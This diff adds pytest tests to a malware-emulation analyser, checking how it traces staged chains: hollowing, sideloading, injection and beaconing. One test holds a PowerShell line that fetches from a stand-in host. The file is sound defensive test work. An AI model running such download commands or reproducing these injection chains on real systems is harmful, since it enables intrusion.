@@ -1,0 +1,114 @@
+"""Long chains that combine techniques, as a user's unseen chain would (issue: combo).
+
+Each scenario joins four or five mechanisms the suite handles one by one; what each showed
+before its fix:
+
+* ``combo-hollow-beacon`` (x64): a WinHTTP dropper -> a DLL run by rundll32 -> its resource
+  RC4-decrypted -> svchost hollowed -> the implant beacons and maps by hand the DLL its C2
+  answers. The implant and the module read ``process: rundll32.exe`` (the process of the DLL
+  that injected them: a stage's process was inherited from its parent before the injection
+  was asked), and the graph drew rundll32 hosting them beside svchost. The implant's ``via``
+  read ``unknown``: a thread resumed at a context its parent set is ``context`` now.
+* ``combo-sideload-inject`` (x64): a planted version.dll -> a thread: a registry value the
+  first run fetched and stored -> CryptoAPI AES -> explorer.exe (Toolhelp, OpenProcess, a
+  remote thread, waited) -> a batch file dropped and ``cmd /c sync.cmd && powershell ...``.
+  The batch file was a program cmd could not run (``child_process_not_run``, "not a PE"), exit
+  code 1, so PowerShell after ``&&`` was skipped; cmd interprets a batch file itself.
+* ``combo-tcp-lznt1-x86``: raw TCP stager -> LZNT1 -> worker thread drops, starts and waits for
+  a program -> HTTP with a redirect -> base64 + XOR -> APC. Right before any fix.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+from typing import Any
+
+import pytest
+
+from emulator.backends.speakeasy import lolbins
+from emulator.backends.speakeasy.scripthosts import script_commands
+
+Report = dict[str, Any]
+SVCHOST = "C:\\Windows\\System32\\svchost.exe"
+RUNDLL32 = "C:\\Windows\\System32\\rundll32.exe"
+
+
+def _stages(report: Report) -> dict[str, Report]:
+    return {s["id"]: s for s in report["stages"]}
+
+
+def _hosts(report: Report) -> set[tuple[str, str]]:
+    return {(e["source"], e["target"]) for e in report["graph"]["edges"] if e["type"] == "hosts"}
+
+
+def test_stages_injected_from_a_child_process_run_in_its_target(scenario_report: Callable[[str], Report]) -> None:
+    report = scenario_report("combo-hollow-beacon")
+    stages = _stages(report)
+    assert [stages[s]["process"] for s in ("s1", "s2", "s3")] == [RUNDLL32, SVCHOST, SVCHOST]
+    assert stages["s1"]["system_program"] == RUNDLL32 and stages["s2"]["parent"] == "s1"
+    assert (stages["s2"]["via"], stages["s3"]["via"]) == ("context", "call")
+    assert stages["s3"]["kind"] == "pe_in_memory" and stages["s3"]["parent"] == "s2"
+    assert _hosts(report) == {(f"process:{RUNDLL32}", "s1"), (f"process:{SVCHOST}", "s2"), (f"process:{SVCHOST}", "s3")}
+    # the beacon carried the computer name; its answer is the module mapped in svchost
+    beacon = [x for x in report["network"] if x["stage"] == "s2"]
+    assert [x["method"] for x in beacon] == ["POST"]
+    dropped = {d["path"] for d in report["dropped"]}
+    assert "C:\\Users\\Public\\combo_hollow_module.txt" in dropped
+
+
+def test_a_batch_file_is_run_by_cmd_itself() -> None:
+    line = 'cmd.exe /c C:\\Users\\Public\\x.cmd && powershell -c "iwr https://a.example/p" & start "" y.BAT'
+    node = lolbins.cmd_chain("cmd.exe", line, "x64", lambda t: t)
+    assert node is not None
+    steps = lolbins.cmd_steps(node)
+    step = next(steps)
+    seen = []
+    try:
+        while True:
+            assert not isinstance(step, lolbins.CmdSkipped), step
+            seen.append((step.text, step.targets))
+            step = steps.send(0)
+    except StopIteration:
+        pass
+    # neither batch file is a program to emulate (no target): cmd runs it, exit code 0
+    assert [text for text, _ in seen] == [
+        "C:\\Users\\Public\\x.cmd",
+        'powershell -c "iwr https://a.example/p"',
+        'start "" y.BAT',
+    ]
+    assert seen[0][1] == () and seen[2][1] == ()
+    found = script_commands("cmd.exe", line, lambda t: t)
+    assert [(s.program, s.how, s.text) for s in found] == [
+        ("cmd.exe", "batch", "C:\\Users\\Public\\x.cmd"),
+        ("powershell.exe", "Command", '"iwr https://a.example/p"'),
+        ("cmd.exe", "batch", "y.BAT"),
+    ]
+
+
+def test_a_dropped_script_runs_and_the_command_after_and_and_runs(scenario_report: Callable[[str], Report]) -> None:
+    report = scenario_report("combo-sideload-inject")
+    stages = _stages(report)
+    assert stages["s2"]["process"] == "C:\\Windows\\explorer.exe" and stages["s2"]["via"] == "thread"
+    notes = [(n["what"], n["detail"], n["stage"]) for n in report["notes"]]
+    assert not [n for n in notes if n[0] in ("child_process_not_run", "cmd_command_skipped")], notes
+    assert (
+        "script_command",
+        "cmd.exe batch: C:\\Users\\Public\\Libraries\\sync.cmd; the script host is not emulated",
+        "s2",
+    ) in notes
+    assert [h["transform"] for h in stages["s2"]["lineage"]] == ["source", "registry_write", "decrypt", "process_write"]
+
+
+@pytest.mark.parametrize("name", ["combo-tcp-lznt1-x86"])
+def test_a_program_unpacked_by_a_thread_runs_inside_the_wait(
+    name: str, scenario_report: Callable[[str], Report]
+) -> None:
+    report = scenario_report(name)
+    stages = _stages(report)
+    child = "C:\\Users\\analyst\\AppData\\Local\\Temp\\msedge_upd.exe"
+    assert (stages["s2"]["via"], stages["s2"]["parent"], stages["s2"]["process"]) == ("process", "s1", child)
+    assert (stages["s3"]["via"], stages["s3"]["parent"], stages["s3"]["process"]) == ("apc", "s2", child)
+    # the child ran inside s1's wait: s1's GetExitCodeProcess comes after the child's last call
+    calls = [(c["seq"], c["stage"], c["api"]) for c in report["api_calls"]]
+    exit_code = next(seq for seq, stage, api in calls if api == "kernel32.GetExitCodeProcess")
+    assert max(seq for seq, stage, _ in calls if stage in ("s2", "s3")) < exit_code
